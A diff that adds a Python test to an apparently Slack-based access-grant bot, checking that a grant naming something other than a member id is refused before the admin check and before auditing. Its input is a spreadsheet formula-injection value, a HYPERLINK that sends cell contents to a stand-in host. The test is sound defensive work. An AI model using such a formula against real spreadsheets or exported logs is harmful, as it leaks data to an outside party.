@@ -264,6 +264,22 @@ def test_admin_grants_and_revokes_from_slack_and_nobody_else_can(
     wait_until(lambda: ("denied", "U0NEW") in audit_events(database_url), what="the refusal audited")
 
 
+def test_a_grant_for_something_that_is_not_a_member_is_refused_before_it_is_decided_or_audited(
+    slack: SlackDriver, grant: Callable[..., None], database_url: str
+) -> None:
+    grant("U0NEW", "web-*")  # no admin grant: such a command used to be audited as denied, naming its subject
+    typed = 'grant =HYPERLINK("https://x.example/?"&A1) web-*'
+
+    _, key = slack.command(typed, user="U0NEW")
+
+    refusal = slack.wait_private(key, "not a Slack member id")
+    assert "`=HYPERLINK(" in refusal and "You need an admin grant" not in refusal
+    _, fine = slack.command("grant <@U0OTHER> web-*", user="U0NEW")  # a member id still reaches the admin check
+    assert "You need an admin grant" in slack.wait_private(fine, "admin grant")
+    wait_until(lambda: ("denied", "U0NEW") in audit_events(database_url), what="the member-id refusal audited")
+    assert audit_events(database_url).count(("denied", "U0NEW")) == 1
+
+
 def grants_of(database_url: str, user: str) -> list[tuple[str, str, str]]:
     """Return (action, pattern, channel) of a user's grants."""
     from bot.grants import rules as grants
